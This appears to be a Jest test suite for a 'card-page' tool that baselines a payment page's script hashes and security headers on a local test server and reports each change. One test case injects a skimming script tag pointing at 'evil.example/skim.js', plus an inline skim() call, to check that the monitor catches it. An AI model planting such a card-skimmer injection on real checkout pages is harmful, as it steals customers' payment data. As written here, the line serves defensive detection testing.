import { readFileSync, statSync } from 'node:fs';
import { createServer, type OutgoingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeAll, beforeEach, expect, test } from '@jest/globals';
import { writeFiles } from '../support/folders.ts';
import { folderOfSuite } from '../support/forAllTests.ts';
import { typed } from './typed.ts';

/* A site of the tests' own, whose card page somebody changes. */

const PAGE = `<!doctype html><html lang="en"><head>
<script>document.documentElement.dataset.early = 'yes';</script>
<script type="application/json" id="files">["/assets/card.3f1c.js"]</script>
<script src="/assets/main.99ac.js" defer></script>
<script src="https://js.pay.example/v3/"></script>
</head><body></body></html>`;
const HEADERS = {
  'content-type': 'text/html; charset=utf-8',
  'content-security-policy':
    "default-src 'self'; script-src 'self' https://js.pay.example; frame-ancestors 'none'",
  'referrer-policy': 'no-referrer',
  'strict-transport-security': 'max-age=31536000',
  'x-content-type-options': 'nosniff',
};
const SCRIPTS = {
  '/assets/card.3f1c.js': 'mountCardFields();',
  '/assets/main.99ac.js': 'startTheApp();',
  '/assets/late.77aa.js': 'openASheet();',
};

type Site = { page: string; headers: OutgoingHttpHeaders; scripts: Record<string, string> };
const folder = folderOfSuite();
let site: Site;
let server: Server;
let url: string;
let baseline: string;
let runs = 0;
/** The name of a late script, which the page does not list. */
const build = join(folder.path, 'client');

beforeAll(() =>
  writeFiles(folder.path, { 'client/assets/late.77aa.js': '', 'client/assets/late.77aa.js.map': '' }),
);
beforeEach(async () => {
  site = { page: PAGE, headers: { ...HEADERS }, scripts: { ...SCRIPTS } };
  server = createServer((request, response) => {
    const script = site.scripts[request.url ?? ''];
    if (request.url === '/order/easy') response.writeHead(200, site.headers).end(site.page);
    else if (script !== undefined) response.end(script);
    else response.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  baseline = join(folder.path, `card-page-${++runs}.json`);
});
afterEach(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

const look = (...more: string[]) =>
  typed(['card-page', '--url', url, '--baseline', baseline, '--build', build, ...more], {});

test('the first card-page run writes the baseline, and the next one finds no change', async () => {
  expect(await look()).toMatchObject({ code: 0, complaints: [] });
  expect(statSync(baseline).mode & 0o777).toBe(0o600);
  expect(readFileSync(baseline, 'utf8')).toContain('"script /assets/card.3f1c.js": "sha256-');
  const again = await look();
  expect(again).toMatchObject({ code: 0, complaints: [] });
  expect(again.lines).toEqual([expect.stringMatching(/^The card page is as its baseline says: \d+ scripts/)]);
});

const flip = (text: string, at: number) =>
  text.slice(0, at) + String.fromCharCode(text.charCodeAt(at) ^ 1) + text.slice(at + 1);
type Change = [what: string, change: (site: Site) => void];
const inScript = (path: keyof typeof SCRIPTS, at: number): Change => [
  `script ${path}`,
  ({ scripts }) => void Object.assign(scripts, { [path]: flip(SCRIPTS[path], at) }),
];
const inHeader = (name: keyof typeof HEADERS, at: number): Change => [
  `header ${name}`,
  ({ headers }) => void Object.assign(headers, { [name]: flip(HEADERS[name], at) }),
];
const inPage = (what: string, change: (page: string) => string): Change => [
  what,
  (site) => void Object.assign(site, { page: change(site.page) }),
];
const ADDED = '<script src=https://evil.example/skim.js></script>';
/** 20 places, each one byte of a script or a header. */
const PLACES: Change[] = [
  ...[0, 3, 7, 12, 17].map((at) => inScript('/assets/card.3f1c.js', at)),
  ...[0, 4, 13].map((at) => inScript('/assets/main.99ac.js', at)),
  inScript('/assets/late.77aa.js', 5),
  ...[10, 25, 40].map((at) =>
    inPage('inline script 1', (page) => flip(page, page.indexOf('document.') + at)),
  ),
  ...[1, 20, 34, 60].map((at) => inHeader('content-security-policy', at)),
  inHeader('referrer-policy', 3),
  inHeader('strict-transport-security', 3),
  inHeader('x-content-type-options', 3),
  inPage('script https://js.pay.example/v3/', (page) => page.replace('js.pay.example', 'jt.pay.example')),
];

const OTHERS: Change[] = [
  inPage('New: script https://evil.example/skim.js', (page) => page + ADDED),
  inPage('New: inline script 3', (page) => `${page}<script>skim()</script>`),
  [
    'Changed: header set-cookie, from none',
    ({ headers }) => void Object.assign(headers, { 'set-cookie': 'a=b' }),
  ],
  inPage('Gone: script /assets/main.99ac.js', (page) => page.replace(/<script src="\/assets.*\n/, '')),
];

test.each([...PLACES, ...OTHERS])('card-page reports a change by name: %s (%#)', async (what, change) => {
  await look();
  change(site);
  const { code, complaints } = await look();
  expect(code).toBe(1);
  expect(complaints.join('\n')).toContain(what);
  // A baseline that is not accepted stays.
  expect((await look()).code).toBe(1);
  expect(await look('--accept')).toMatchObject({ code: 0, complaints: [] });
  expect((await look()).code).toBe(0);
});

test('a script that cannot be fetched fails card-page, which writes no baseline', async () => {
  delete (site.scripts as Record<string, string>)['/assets/main.99ac.js'];
  const { code, complaints } = await look();
  const complaint = expect.stringContaining('main.99ac.js could not be fetched: status 404');
  expect([code, complaints]).toEqual([1, [complaint]]);
  expect(() => statSync(baseline)).toThrow();
});

test('card-page refuses a --url that is not a URL', async () => {
  const complaints = [expect.stringContaining('--url must be')];
  expect(await look('--url', 'nonsense')).toMatchObject({ code: 1, complaints });
});
